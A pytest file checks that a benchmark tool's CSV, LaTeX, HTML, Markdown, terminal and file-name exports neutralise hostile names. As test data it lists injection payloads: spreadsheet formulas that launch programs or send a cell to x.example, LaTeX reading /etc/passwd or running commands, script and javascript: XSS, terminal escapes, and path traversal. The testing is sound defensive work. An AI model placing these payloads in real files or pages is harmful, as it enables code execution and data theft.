"""Names that a spreadsheet, LaTeX, a browser or a terminal would execute, wherever names are written."""

import csv
import io
import re
from collections.abc import Iterable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mcr_bench.bench.analysis.table import Table
from mcr_bench.bench.commands.console import SafeConsole
from mcr_bench.bench.record.row import RunRow
from mcr_bench.bench.record.tracking import Record
from mcr_bench.bench.report import cells
from mcr_bench.bench.report.cells import csv_text, harmless
from mcr_bench.bench.report.export import latex, markdown, page, to_csv, write_tables
from mcr_bench.bench.report.fitted import grid_text
from mcr_bench.bench.report.results import results_csv, results_grid
from mcr_bench.bench.report.terminal import print_tables
from mcr_bench.cli import app
from mcr_bench.tests.support.faults import Fault
from mcr_bench.tests.support.records.many_runs import record_run, specs
from mcr_bench.tests.support.records.run_rows import run_row

FAULT = Fault(
    "a name, label or failure that begins with = + - @, or holds commands of LaTeX, HTML, Markdown or a terminal",
    "every file and every line that is printed holds it as text; numbers such as -0.5 stay numbers",
)
EVIL = {
    "a formula": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "an address that is fetched": '=HYPERLINK("http://x.example/?"&A1,"a")',
    "a plus": "+1+cmd",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd",
    "a tab before it": "\t=1+1",
    "a carriage return before it": "\r=1+1",
    "a line break before it": "a\n=1+1",
    "a blank before it": "  =1+1",
    "a quote before it": '"=1+1',
    "full width": "\uff1d1+1",
    "a semicolon before it": "a;=1+1",
    "a comma before it": "a,=1+1",
    "reading a file": r"\input{/etc/passwd}",
    "running a program": r"\immediate\write18{id}",
    "ending the table": r"\end{tabular}\csname x\endcsname ^^5cinput % $x$ #1 & ~ _",
    "an option of the line before": "[9999pt] *",
    "a script": "<script>alert(1)</script>",
    "an attribute": "\" onmouseover='alert(1)' x=\"",
    "an entity": "&lt;img src=x onerror=alert(1)&gt;",
    "a template": "{{ 7*7 }}{% include 'x' %}",
    "a link": "[a](javascript:alert(1)) ![b](x) <javascript:alert(1)>",
    "a column": "a|b||c",
    "markup of the terminal": "[red]a[/red] [link=file:///etc]b[/link] [/]",
    "a cleared screen": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "a turned text": "a\u202egpj.exe\u2066",
    "half of a pair": "a\ud800",
}
PLAIN = {"html", "meta", "title", "section", "h2", "table", "thead", "tr", "th", "tbody", "td", "ul", "li", "strong"}
NUMBERS = [-0.5, 0.25, -3, 1e-300, -1e20]
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
NAMED = pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL)


def table(evil: str) -> Table:
    """The name in the title, a column, a row and a note, beside numbers."""
    return Table(
        title=evil, columns=("method", evil), digits=(0, 1), rows=[(evil, -0.5), ("joint", evil)], notes=[evil]
    )


def executed(text: str) -> list[str]:
    """The cells that a spreadsheet would execute, whichever separator it takes."""
    read = [cell for mark in ",;\t" for row in csv.reader(io.StringIO(text), delimiter=mark) for cell in row]
    lines = [cell.lstrip() for cell in read if not is_number(cell)]
    return [cell for cell in lines if cell.lstrip('"')[:1] in tuple("=+@\uff1d") and not cell.startswith("'")]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@NAMED
def test_csv_of_a_table(evil: str) -> None:
    text = to_csv(table(evil))
    assert executed(text) == []
    assert not HIDDEN.search(text)
    assert list(csv.reader(io.StringIO(text)))[1][1] == "-0.5"


def row(evil: str) -> RunRow:
    return replace(
        run_row("joint"),
        label=evil,
        method=evil,
        dataset=evil,
        failure=evil,
        overrides=evil,
        settings={evil: evil, "lr": -0.5},
        metrics={evil: -0.5},
        modalities=(evil, "audio"),
        missing={evil: (evil,)},
    )


@NAMED
def test_csv_of_results(evil: str) -> None:
    text = results_csv([row(evil)])
    assert executed(text) == []
    assert not HIDDEN.search(text)
    assert next(csv.DictReader(io.StringIO(text)))["settings.lr"] == "-0.5"


@pytest.mark.parametrize("number", [*NUMBERS, *map(str, NUMBERS), "-nan", "+inf", "-.5", "-1.", "+7", "-", "--"])
def test_numbers_stay_numbers(number: float | str) -> None:
    assert harmless(number) == number
    assert csv_text([[number]]).strip() == str(number)


COMMANDS = re.compile(
    r"\\(textbackslash|textasciitilde|textasciicircum|textless|textgreater|textbar)\{\}|\$\\(times|cdot)\$|\\[&%$#_{}]"
)
FRAME = re.compile(
    r"\\(begin|end)\{(table|tabular|minipage)\}(\{lr+\}\}?|\{\\linewidth\})?|\\(centering|toprule|midrule|bottomrule)"
    r"|\\(par|medskip|raggedright|footnotesize|tiny)|\\caption\{|\\resizebox\{\\linewidth\}\{!\}\{%|\\textbf\{|^%.*$"
    r"| \\\\$|^\{\}| & |\}$|\}(?= )",
    re.MULTILINE,
)


@NAMED
def test_latex(evil: str) -> None:
    """What is left without the table's own commands and those of escaped characters holds no special character."""
    text = latex(table(evil))
    left = FRAME.sub("", COMMANDS.sub("", text))
    assert not re.search(r"[\\$#&%^~{}]", left), left
    assert not re.search(r"\\\\\s*[\[*]", text)
    assert not HIDDEN.search(text)


class Seen(HTMLParser):
    """The elements and attributes of a page, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: Iterable[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@NAMED
def test_html_of_a_table(evil: str) -> None:
    seen = Seen()
    seen.feed(page(table(evil)))
    assert set(seen.tags) <= PLAIN
    assert set(seen.attributes) <= {"lang", "charset", "scope", "data-value"}


@NAMED
def test_markdown(evil: str) -> None:
    """No character that begins an element is without its backslash, and each row has its two cells."""
    text = markdown(table(evil))
    bare = re.sub(r"\\[\\`*_\[\]<>|#]", "", text)
    assert not re.search(r"[`*_\[\]<>]", bare)
    assert [line.count("|") for line in bare.splitlines() if line.startswith("| ")] == [3, 3, 3, 3]
    assert not HIDDEN.search(text)


@NAMED
def test_files_are_named_harmlessly(evil: str, tmp_path: Path) -> None:
    """No file is hidden, is taken for an option, or leaves the folder."""
    folder = tmp_path / "tables"
    written = write_tables([table(evil), table(f"../../{evil}"), table("-rf"), table("..")], folder)
    assert {path.parent for path in written} == {folder}
    assert len({path.name for path in written}) == len(written) == 16
    for path in written:
        assert re.fullmatch(r"\w[\w.+-]*", path.name)
        assert not HIDDEN.search(path.read_text(encoding="utf-8"))


@NAMED
def test_the_terminal(evil: str) -> None:
    out = io.StringIO()
    print_tables(SafeConsole(file=out, width=10_000), [table(evil)])
    text = out.getvalue() + grid_text(results_grid([row(evil)]))
    assert not HIDDEN.search(text)
    if not HIDDEN.search(evil) and evil == " ".join(evil.split()):
        assert evil in out.getvalue()


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record whose methods, dataset, preset and settings have the names."""
    home, folder = tmp_path_factory.mktemp("home"), tmp_path_factory.mktemp("made")
    record = Record(home=home)
    for spec in specs(5, 1, 2):
        record_run(record, spec, folder)
    names = [evil for evil in EVIL.values() if "\ud800" not in evil]
    for seed in (0, 1):
        for number, evil in enumerate(names):
            for spec in list(specs(5, 1, 1))[4:]:
                named = replace(spec, method=evil, seed=seed, settings={"a": evil}, overrides=f"a={number}")
                record_run(record, named, folder)
    return home


def written(home: Path, *verb: str) -> Iterator[tuple[Path, str]]:
    place = {"MCR_BENCH_HOME": str(home)}
    done = CliRunner().invoke(app, verb, env=place)
    assert done.exit_code == 0, done.output
    assert not HIDDEN.search(done.output)
    for path in home.rglob("*"):
        if path.suffix in (".csv", ".tex", ".md", ".html", ".svg") and "artifacts" not in path.parts:
            yield path, path.read_text(encoding="utf-8")


@pytest.mark.slow
@pytest.mark.parametrize(
    "verb", [["tables"], ["report"], ["plot", "methods", "forest"], ["results", "--csv", "{home}/a.csv"]]
)
def test_a_whole_record(verb: list[str], recorded: Path) -> None:
    files = dict(written(recorded, *(word.format(home=recorded) for word in verb)))
    assert files
    for path, text in files.items():
        assert not HIDDEN.search(text), path
        if path.suffix == ".csv":
            assert executed(text) == [], path
        if path.suffix in (".html", ".svg"):
            seen = Seen()
            seen.feed(text)
            assert seen.tags.count("script") <= (path.name == "report.html")
            assert not [name for name in seen.attributes if name.startswith("on")]


@pytest.mark.slow
@pytest.mark.parametrize("verb", [["results"], ["compare"], ["results", "--json"]])
def test_what_is_printed_of_a_whole_record(verb: list[str], recorded: Path) -> None:
    assert list(written(recorded, *verb)) is not None


@pytest.mark.unprotected
def test_without_the_apostrophe(monkeypatch: pytest.MonkeyPatch) -> None:
    """Unless texts are made harmless, a spreadsheet executes a label."""
    monkeypatch.setattr(cells, "harmless", lambda cell: cell)
    assert executed(to_csv(table("=cmd|' /C calc'!A0")))
